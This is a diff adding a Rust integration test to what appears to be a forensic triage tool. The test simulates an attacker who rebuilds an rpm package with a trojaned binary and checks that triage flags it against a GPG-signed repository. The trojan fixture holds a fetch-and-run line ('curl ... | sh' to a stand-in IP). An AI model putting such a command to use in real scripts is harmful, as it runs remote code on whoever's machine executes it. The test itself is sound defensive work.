@@ -272,3 +272,246 @@ fn a_compromised_rpm_root_image_shows_every_plant_and_agrees_with_rpm_va() {
     assert!(!mounts.contains("examine-"), "unmounted afterwards");
     pkgroots::ran(NAME);
 }
+
+/// The changed files `rpm --root ROOT -Vp -` reports when given a package file on stdin (rpm opens a
+/// `-p` path inside the root): the files on disk against that package's own header, whatever the
+/// root's rpmdb says. Same columns as [`pkgroots::rpm_va_changed`].
+fn rpm_vp_changed(root: &Path, rpm: &Path) -> BTreeSet<String> {
+    let o = Command::new("rpm")
+        .arg("--root")
+        .arg(root)
+        .args(["--dbpath", "/var/lib/rpm", "-Vp", "-"])
+        .stdin(std::fs::File::open(rpm).unwrap())
+        .output()
+        .unwrap();
+    assert!(
+        o.stderr.is_empty(),
+        "rpm -Vp: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    String::from_utf8_lossy(&o.stdout)
+        .lines()
+        .filter(|l| l.starts_with("missing") || l[..9].contains(['5', 'M', 'U', 'G', 'L']))
+        .map(|l| l.split_whitespace().last().unwrap().to_owned())
+        .collect()
+}
+
+/// `--packages-from` on an rpm root: a repository made by `createrepo_c` whose `repomd.xml` GnuPG
+/// signed (checked with `gpgv` too). The attacker rebuilt `rescue-tools` with a trojaned `rt-hello`
+/// under the same name, version and release and installed it over the real one, so the suspect's
+/// rpmdb (and `rpm -Va`) vouches for the trojan; and installed a package of their own. Only the
+/// signed repository shows them; the files triage reports as differing from the signed packages are
+/// the ones `rpm -Vp` reports against the repository's package files.
+#[test]
+fn an_rpm_root_against_a_signed_repository_shows_a_package_rebuilt_by_the_attacker() {
+    const NAME: &str =
+        "an_rpm_root_against_a_signed_repository_shows_a_package_rebuilt_by_the_attacker";
+    for tool in ["createrepo_c", "gpg", "gpgv"] {
+        if !pkgroots::have(tool) && !pkgroots::skip(NAME, &format!("{tool} is not installed")) {
+            return;
+        }
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let (root, work) = (d.join("root"), d.join("work"));
+    std::fs::create_dir_all(&root).unwrap();
+    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
+        return;
+    }
+    // The repository: the packages as built, indexed by createrepo_c, repomd.xml signed by GnuPG.
+    let repo = d.join("media/el9/BaseOS");
+    std::fs::create_dir_all(repo.join("Packages")).unwrap();
+    let mut real = Vec::new();
+    for e in std::fs::read_dir(&work).unwrap().flatten() {
+        let rpms = e.path().join("RPMS/x86_64");
+        for r in std::fs::read_dir(&rpms).into_iter().flatten().flatten() {
+            let to = repo.join("Packages").join(r.file_name());
+            std::fs::copy(r.path(), &to).unwrap();
+            real.push(to);
+        }
+    }
+    real.sort();
+    assert_eq!(real.len(), 3, "{real:?}");
+    run(Command::new("createrepo_c").arg("-q").arg(&repo));
+    let gnupg = d.join("gnupg");
+    std::fs::create_dir_all(&gnupg).unwrap();
+    std::fs::set_permissions(&gnupg, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let gpg = |args: &[&str]| {
+        let mut c = Command::new("gpg");
+        c.env("GNUPGHOME", &gnupg)
+            .args([
+                "--batch",
+                "--quiet",
+                "--pinentry-mode",
+                "loopback",
+                "--passphrase",
+                "",
+            ])
+            .args(args);
+        c
+    };
+    run(&mut gpg(&[
+        "--quick-gen-key",
+        "Rescue Test Repository <repo@example.org>",
+        "ed25519",
+        "sign",
+        "never",
+    ]));
+    let repomd = repo.join("repodata/repomd.xml");
+    run(gpg(&[
+        "--armor",
+        "--digest-algo",
+        "SHA256",
+        "--detach-sign",
+        "--output",
+    ])
+    .arg(repo.join("repodata/repomd.xml.asc"))
+    .arg(&repomd));
+    let keyring = d.join("repo-key.gpg");
+    run(gpg(&["--output"]).arg(&keyring).arg("--export"));
+    run(Command::new("gpgv")
+        .arg("--keyring")
+        .arg(&keyring)
+        .arg(repo.join("repodata/repomd.xml.asc"))
+        .arg(&repomd));
+
+    let media = d.join("media");
+    let triage_media = |out: &Path| {
+        let o = rescue(&[
+            "triage",
+            s(&root),
+            "--out",
+            s(out),
+            "--packages-from",
+            s(&media),
+            "--keyring",
+            s(&keyring),
+        ]);
+        let report: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
+        (o, report)
+    };
+    let from_media = |report: &serde_json::Value| -> BTreeSet<String> {
+        findings(report)
+            .iter()
+            .filter(|f| {
+                f["why"]
+                    .as_str()
+                    .unwrap()
+                    .starts_with("differs from the signed package")
+            })
+            .map(|f| f["path"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    let notes = |report: &serde_json::Value| report["notes"].to_string();
+
+    // Clean: every package compared, nothing differs.
+    let (o, report) = triage_media(&d.join("out-clean"));
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        notes(&report).contains("3 package(s) compared with signed packages"),
+        "{}",
+        notes(&report)
+    );
+    assert!(from_media(&report).is_empty(), "{}", report["findings"]);
+
+    // The attacker's rebuild of rescue-tools (same NVR, trojaned rt-hello) and their own package.
+    let mut pkgs = pkgroots::rpm_packages();
+    pkgs.retain(|p| p.name == "rescue-tools");
+    let hello = pkgs[0]
+        .files
+        .iter_mut()
+        .find(|f| f.path == "/usr/bin/rt-hello")
+        .unwrap();
+    hello.content = pkgroots::RpmContent::File(
+        b"#!/bin/sh\ncurl -s http://203.0.113.7/k | sh\necho hello\n".to_vec(),
+    );
+    pkgs.push(pkgroots::RpmPackage {
+        name: "evil-tools",
+        version: "1.0",
+        files: vec![pkgroots::RpmFile {
+            path: "/usr/libexec/evil/agent",
+            content: pkgroots::RpmContent::File(b"#!/bin/sh\nexec sleep 1\n".to_vec()),
+            mode: 0o755,
+            user: "root",
+            group: "root",
+            attr: "",
+        }],
+    });
+    let evil = pkgroots::build_these_rpms(&d.join("evil"), pkgs);
+    run(Command::new("rpm")
+        .arg("--root")
+        .arg(&root)
+        .args([
+            "--dbpath",
+            "/var/lib/rpm",
+            "-U",
+            "--replacepkgs",
+            "--nodeps",
+            "--noscripts",
+        ])
+        .args(&evil));
+    // And a configuration file changed by hand.
+    let conf = root.join("etc/rt.conf");
+    let mut c = std::fs::read(&conf).unwrap();
+    c.extend_from_slice(b"listen = 0.0.0.0\n");
+    std::fs::write(&conf, c).unwrap();
+    assert_eq!(
+        pkgroots::rpm_va_changed(&root),
+        BTreeSet::from(["/etc/rt.conf".to_owned()]),
+        "the local rpmdb vouches for the trojan"
+    );
+
+    let (o, report) = triage_media(&d.join("out"));
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
+    let ours = from_media(&report);
+    let mut theirs = BTreeSet::new();
+    for r in &real {
+        theirs.extend(rpm_vp_changed(&root, r));
+    }
+    assert_eq!(
+        ours, theirs,
+        "triage --packages-from vs rpm -Vp on the signed packages"
+    );
+    assert!(ours.contains("/usr/bin/rt-hello"), "{ours:?}");
+    let all = findings(&report);
+    let hello = all
+        .iter()
+        .find(|f| {
+            f["path"] == "/usr/bin/rt-hello"
+                && f["why"]
+                    .as_str()
+                    .unwrap()
+                    .starts_with("differs from the signed package rescue-tools")
+        })
+        .unwrap();
+    assert_eq!(hello["severity"], "high");
+    assert!(
+        !all.iter().any(|f| f["path"] == "/usr/bin/rt-hello"
+            && f["why"]
+                .as_str()
+                .unwrap()
+                .contains("changed since installation")),
+        "the suspect's rpmdb has the trojan's digest"
+    );
+    let unlisted = all
+        .iter()
+        .find(|f| {
+            f["why"]
+                .as_str()
+                .unwrap()
+                .starts_with("installed package evil-tools")
+        })
+        .unwrap_or_else(|| panic!("evil-tools is reported: {}", report["findings"]));
+    assert_eq!(unlisted["severity"], "medium");
+    assert_eq!(unlisted["path"], "/var/lib/rpm/rpmdb.sqlite");
+
+    // A repository whose repomd.xml was changed after signing proves nothing.
+    let mut md = std::fs::read(&repomd).unwrap();
+    md.extend_from_slice(b"\n<!-- -->\n");
+    std::fs::write(&repomd, md).unwrap();
+    let (_, report) = triage_media(&d.join("out-bad"));
+    assert!(from_media(&report).is_empty());
+    assert!(notes(&report).contains("repomd.xml"), "{}", notes(&report));
+    pkgroots::ran(NAME);
+}
